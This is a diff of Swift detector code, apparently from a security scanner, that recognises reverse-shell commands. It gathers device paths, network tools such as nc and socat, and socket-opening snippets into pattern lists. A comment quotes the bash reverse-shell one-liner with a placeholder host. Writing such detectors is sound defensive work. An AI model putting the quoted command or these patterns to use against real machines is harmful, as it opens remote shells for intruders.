@@ -11,11 +11,19 @@ enum ReverseShell {
         return throughDevice(text) || inOneLanguage(text) || throughTool(text)
     }
 
+    private static let devices: [StaticString] = ["/dev/tcp/", "/dev/udp/", "/inet/tcp/"]
+    private static let tools: [StaticString] = ["nc", "netcat", "socat", "telnet", "openssl"]
+    private static let sockets: [StaticString] = [
+        "socket.socket(", "import socket", "use Socket", "IO::Socket", "TCPSocket", "fsockopen(", "net.Socket(",
+        "net.connect(", "socket.tcp(", "java.net.Socket", "net.Dial(",
+    ]
+
+    /// Literals of which one stands in every text that gives a shell away.
+    static let signs = devices + tools + sockets
+
     /// `bash -i >& /dev/tcp/host/port 0>&1`, `exec 5<>/dev/tcp/…; cat <&5 | while read l; do $l …`.
     private static func throughDevice(_ text: JSONText) -> Bool {
-        guard text.contains("/dev/tcp/") || text.contains("/dev/udp/") || text.contains("/inet/tcp/") else {
-            return false
-        }
+        guard text.contains(anyOf: devices) else { return false }
         if text.contains("0>&1") || text.contains("0<&1") || text.contains("0>& 1") || text.contains("<&1") {
             return true
         }
@@ -28,10 +36,7 @@ enum ReverseShell {
     private static let connectors: Set<String> = ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "telnet"]
 
     private static func throughTool(_ text: JSONText) -> Bool {
-        guard
-            text.contains("nc") || text.contains("netcat") || text.contains("socat") || text.contains("telnet")
-                || text.contains("openssl")
-        else { return false }
+        guard text.contains(anyOf: tools) else { return false }
         let script = ShellScript(text)
         let commands = script.allCommands
         if commands.contains(where: runsProgram) { return true }
@@ -82,16 +87,11 @@ enum ReverseShell {
 
     /// Sockets and shells in one text of Python, Perl, Ruby, PHP, Node, Lua or Java.
     private static func inOneLanguage(_ text: JSONText) -> Bool {
-        let connects =
-            text.contains("socket.socket(") || text.contains("import socket") || text.contains("use Socket")
-            || text.contains("IO::Socket") || text.contains("TCPSocket") || text.contains("fsockopen(")
-            || text.contains("net.Socket(") || text.contains("net.connect(") || text.contains("socket.tcp(")
-            || text.contains("java.net.Socket") || text.contains("net.Dial(")
-        guard connects else { return false }
+        guard text.contains(anyOf: sockets) else { return false }
         let shell =
             text.contains("/bin/sh") || text.contains("/bin/bash") || text.contains("/bin/ash")
             || text.contains("\"sh\"") || text.contains("'sh'") || text.contains("\"bash\"") || text.contains("'bash'")
-            || text.contains("sh -i")
+            || text.contains("sh -i") || text.contains("sh <&") || text.contains("sh 0<&")
         let runs =
             text.contains("dup2(") || text.contains("pty.spawn") || text.contains("subprocess") || text.contains("exec")
             || text.contains("spawn(") || text.contains("popen") || text.contains("system(") || text.contains("%x")
